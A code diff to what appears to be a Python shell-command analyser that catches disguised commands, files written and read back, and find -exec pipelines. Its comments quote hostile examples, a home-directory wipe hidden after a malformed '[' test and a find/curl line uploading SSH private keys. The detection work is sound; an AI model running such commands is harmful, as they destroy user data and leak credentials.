@@ -262,6 +262,9 @@ class _Walker:
         self.empty_unknown = False
         self.param_ops = 0  # ${NAME op word} expansions computed (bounded by MAX_PARAM_OPS)
         self.unparsed = False  # the top layer had a syntax error (see _segment_pass, recovering)
+        # the top layer has a test whose `[` is glued to more (`[x|| rm -rf ~ ]]`): a word to bash, the
+        # command named `[x`, and what follows its `||` runs; tree-sitter-bash read a test and no command
+        self.glued_test = False
 
     # ---- layers -------------------------------------------------------------------------
     def layer(self, text: str, via: str, depth: int, env: dict[str, str] | None = None,
@@ -512,6 +515,9 @@ class _Walker:
             return self.stmt(body, via, depth, sd + 1) if body is not None else []
         if t == "for_statement":
             return self.for_loop(node, via, depth, sd)
+        if t == "test_command" and depth == 0 and node.start_byte + 1 < len(self.src_stack[-1]) \
+                and self.src_stack[-1][node.start_byte:node.start_byte + 2] not in (b"[ ", b"[\t", b"[\n", b"[["):
+            self.glued_test = True
         out = []
         for c in node.named_children:
             if c.type in ("string", "word", "raw_string", "concatenation", "simple_expansion", "expansion",
@@ -2056,6 +2062,15 @@ class _Walker:
                 for producer in _made_into_sent(made, _plain_path(f))[:4]:
                     if len(self.layers) < 64:
                         self.nested_shell(producer + " | " + sender, d.via, 0, "a file written and sent on the same line")
+            for f, reader in files_read_back(prog, args, d.redirects) if made else ():
+                producer = made.get(_plain_path(f))
+                if producer is not None and len(self.layers) < 64:
+                    self.nested_shell(producer + " | " + reader, d.via, 0, "a file written and read back on the same line")
+            if made and any("$(" in a or "`" in a for a in args):
+                # `brew list > /tmp/l; brew uninstall $(cat /tmp/l)`: the words are what the producer printed
+                words = [_READ_BACK.sub(lambda m: _printed_back(m, made), a) for a in args]
+                if words != list(args) and len(self.layers) < 64:
+                    self.nested_shell(" ".join([_word(prog), *words]), d.via, 0, "a file written and read back on the same line")
             if not (d.piped and prev is not None and prev.via == d.via and prev.depth == d.depth):
                 pipe = []
             # (spelled only for a stage whose output goes to a file: most pipelines write none)
@@ -2929,6 +2944,10 @@ class _Walker:
                     for argv in _find_exec_argvs(sub, args):
                         self.finish(argv, " ".join(argv), _join_via(via, "find -exec"), depth + 1, False,
                                     upstream=("find",))
+                        # what find finds goes to that program, as through `| xargs` (downstream):
+                        # `find ~ -name id_rsa -exec curl -T {} URL \;` sends what the search found
+                        if argv and argv[0] not in d.downstream:
+                            d.downstream.append(argv[0])
                 i = j
             i += 1
 
@@ -3230,6 +3249,15 @@ def _made_into_sent(made: "dict[str, str]", sent: str) -> list[str]:
                or ("*" in sent or "?" in sent) and fnmatch.fnmatchcase(n, sent) for n in names):
             out.append(p)
     return out
+
+
+# a substitution that prints one file back: `$(cat F)`, `$(< F)`, `` `cat F` ``
+_READ_BACK = lazyre.compile(r"\$\((?:cat\s+|<\s*)([^\s|;&<>(){}$`'\"]+)\s*\)|`cat\s+([^\s|;&<>(){}$`'\"]+)\s*`")
+
+
+def _printed_back(m: "re.Match[str]", made: "dict[str, str]") -> str:
+    producer = made.get(_plain_path(m.group(1) or m.group(2)))
+    return "$(" + producer + ")" if producer is not None else m.group(0)
 
 
 _CAT_ONE = lazyre.compile(r"cat ([^\s|;&<>(){}$`]+)")
@@ -5173,7 +5201,7 @@ def parse(text: str, charge: "Callable[[int], bool]" = _no_charge) -> ParsedShel
         _segment_pass(w, text)
     elif w.unparsed:
         _segment_pass(w, text, recovering=True)
-    if len(text) <= _MAX_RESPLIT and not w.stopped and (w.unparsed or any(
+    if len(text) <= _MAX_RESPLIT and not w.stopped and (w.unparsed or w.glued_test or any(
             _misread_name(d.argv[0]) for d in w.drafts[:64] if d.argv and d.depth == 0)):
         _word_split_pass(w, text)
     folded = _lookalike_spelling(text) if len(text) <= MAX_SOURCE else None
@@ -5670,6 +5698,36 @@ def files_sent(prog: str, args: "Sequence[str]", redirects: "Sequence[Redirect]"
         sent += [r.target for r in redirects if r.op == "<" and r.target]
     return [(f, " ".join(_word(a) for a in [prog] + [_as_stdin(a, f) for a in args]))
             for f in dict.fromkeys(sent) if f]
+
+
+# list-file options: the program reads the file as the words xargs would hand it on stdin
+_LIST_FILE_OPTS = {"xargs": ("-a", "--arg-file"), "parallel": ("-a", "--arg-file"),
+                   "pip": ("-r", "--requirement"), "pip3": ("-r", "--requirement")}
+
+
+def files_read_back(prog: str, args: "Sequence[str]", redirects: "Sequence[Redirect]") -> "list[tuple[str, str]]":
+    """(file as written, the same command reading it from a pipe) for each file `prog args` reads as its
+    input stream or its list of words: `xargs pip uninstall -y < /tmp/l` → `xargs pip uninstall -y`,
+    `pip uninstall -r /tmp/l` → `xargs pip uninstall`. A file the line wrote earlier is then judged as
+    `PRODUCER | READER` (`pip freeze > /tmp/l; …` as `pip freeze | xargs pip uninstall -y`). Senders
+    are files_sent's."""
+    if prog in _STDIN_SENDERS:
+        return []
+    out = [(r.target, " ".join(_word(a) for a in [prog, *args])) for r in redirects
+           if r.op == "<" and r.fd in ("", "0") and r.target]
+    opts = _LIST_FILE_OPTS.get(prog)
+    if opts:
+        i = 0
+        while i < len(args):
+            a = args[i]
+            got = args[i + 1] if a in opts and i + 1 < len(args) else \
+                next((a.split("=", 1)[1] for o in opts if o.startswith("--") and a.startswith(o + "=")), None)
+            if got:
+                rest = [*args[:i], *args[i + (1 if "=" in a else 2):]]
+                words = [prog, *rest] if prog in ("xargs", "parallel") else ["xargs", prog, *rest]
+                out.append((got, " ".join(_word(w) for w in words)))
+            i += 1
+    return out[:4]
 
 
 def files_made_by(commands: "Sequence[SimpleCommand]", every_archive: bool = False) -> "list[tuple[str, str]]":
